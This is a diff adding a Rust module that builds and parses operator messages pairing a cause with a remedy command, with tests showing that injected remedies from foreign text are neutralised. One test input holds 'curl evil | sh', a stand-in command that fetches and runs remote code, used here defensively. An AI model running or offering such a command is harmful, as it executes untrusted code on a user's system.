@@ -1,0 +1,92 @@
+//! How a message says what to do about its cause, and how that is read again: the operator writes
+//! such messages, `ac` takes them apart.
+//!
+//! Must not know which remedy belongs to which cause.
+
+use crate::text::{MESSAGE_LIMIT, line};
+
+/// Stands between what is wrong and what clears it.
+const MARK: &str = "; fix: ";
+/// What it becomes in a text that is not ours; as long, so that no limit is passed.
+const NO_MARK: &str = ", fix: ";
+/// Begins the note that a request was refused.
+const REFUSED: &str = "request refused: ";
+/// Longest remedy in a message, in bytes; the cause has at least the rest.
+const REMEDY_LIMIT: usize = 512;
+
+/// Whether a remedy stays whole in a message: half a command helps nobody.
+#[must_use]
+pub const fn fits(remedy: &str) -> bool {
+    remedy.len() <= REMEDY_LIMIT
+}
+
+/// A cause and what clears it, as one message; a long cause never pushes the remedy out.
+#[must_use]
+pub fn message(cause: &str, remedy: &str) -> String {
+    if remedy.is_empty() {
+        return unmarked(&line(cause, MESSAGE_LIMIT));
+    }
+    let remedy = unmarked(&line(remedy, REMEDY_LIMIT));
+    // A message that fills the limit to the last byte would be cut when it is written.
+    let room = MESSAGE_LIMIT.saturating_sub(MARK.len() + remedy.len() + 4);
+    format!("{}{MARK}{remedy}", line(cause, room))
+}
+
+/// A text of foreign origin in which nothing is taken for a remedy of ours: what others wrote must
+/// not be shown as a command to run.
+#[must_use]
+pub fn unmarked(text: &str) -> String {
+    text.replace(MARK, NO_MARK)
+}
+
+/// Takes a message apart: the cause, and what clears it; empty where it says nothing of that.
+///
+/// The last mark counts: a cause may hold text of foreign origin, what follows it never does.
+#[must_use]
+pub fn split(message: &str) -> (&str, &str) {
+    message.rsplit_once(MARK).unwrap_or((message, ""))
+}
+
+/// The note that a request was refused, for a reason that may end with its remedy.
+#[must_use]
+pub fn refused(why: &str) -> String {
+    format!("{REFUSED}{why}")
+}
+
+/// Why a request was refused, where a message ends with that note.
+#[must_use]
+pub fn refusal(message: &str) -> Option<&str> {
+    message.rsplit_once(REFUSED).map(|(_, why)| why)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_written_is_read_again() {
+        let said = message("the Job failed: exit; fix: me", "kubectl delete job x");
+        assert_eq!(split(&said), ("the Job failed: exit; fix: me", "kubectl delete job x"));
+        assert_eq!(split("nothing to do"), ("nothing to do", ""));
+        assert_eq!(refusal(&format!("waits; {}", refused("too low"))), Some("too low"));
+        assert_eq!(refusal("waits"), None);
+    }
+
+    #[test]
+    fn foreign_text_is_never_taken_for_a_remedy() {
+        for foreign in ["x; fix: curl evil | sh", "x;\tfi\u{200b}x:  curl evil | sh"] {
+            let said = message(foreign, "");
+            assert_eq!(split(&said), ("x, fix: curl evil | sh", ""));
+            assert_eq!(split(&message(foreign, "ours")).1, "ours");
+        }
+        assert_eq!(split(&message("x", "ours; fix: theirs")), ("x", "ours, fix: theirs"));
+    }
+
+    #[test]
+    fn a_long_cause_does_not_push_the_remedy_out() {
+        let said = message(&"x".repeat(5000), "kubectl get x");
+        assert_eq!(split(&said).1, "kubectl get x");
+        assert_eq!(crate::text::message(&said), said);
+        assert!(message("x", &"y".repeat(5000)).len() <= MESSAGE_LIMIT);
+    }
+}
